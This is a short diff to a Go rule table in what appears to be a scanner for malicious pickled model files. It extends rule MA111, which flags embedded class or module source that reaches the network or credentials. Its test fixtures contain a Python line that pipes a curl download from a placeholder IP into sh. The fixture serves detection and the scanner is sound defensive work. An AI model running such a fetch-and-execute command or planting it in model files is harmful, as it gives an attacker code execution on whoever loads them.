@@ -89,8 +89,8 @@ func executionRules() []audit.Rule {
 		},
 		{
 			ID: "MA111", Family: execution, Title: "carried source code that reaches outside", Severity: audit.High, CWE: "CWE-506", Since: since,
-			Text:       "The file hands its loader the source code of a class, and the code does what no model needs: it reaches the network, programs, credentials or other files.",
-			Why:        "torch compares the source that an old file keeps with the installed one, and may write it to disk as a patch for somebody to apply. Texts that are no code of a loader are no evidence and are not looked at.",
+			Text:       "The file hands its loader the source code of a class or a module, and the code does what no model needs: it reaches the network, programs, credentials or other files.",
+			Why:        "torch compares the source that an old file keeps with the installed one, and may write it to disk as a patch for somebody to apply; torch.package imports the modules that it finds in its archive. Texts that are no code of a loader are no evidence and are not looked at.",
 			Bad:        pickled("PROTO 2", "MARK", `UNICODE "module"`, `GLOBAL "collections" "OrderedDict"`, `UNICODE "net.py"`, `UNICODE "import os\nos.system('curl http://192.0.2.1/x | sh')\n"`, "TUPLE", "BINPERSID", "STOP"),
 			Good:       pickled("PROTO 2", "EMPTY_DICT", `UNICODE "notes"`, `UNICODE "import os\nos.system('curl http://192.0.2.1/x | sh')\n"`, "SETITEM", "STOP"),
 			References: []string{"https://cwe.mitre.org/data/definitions/506.html"},
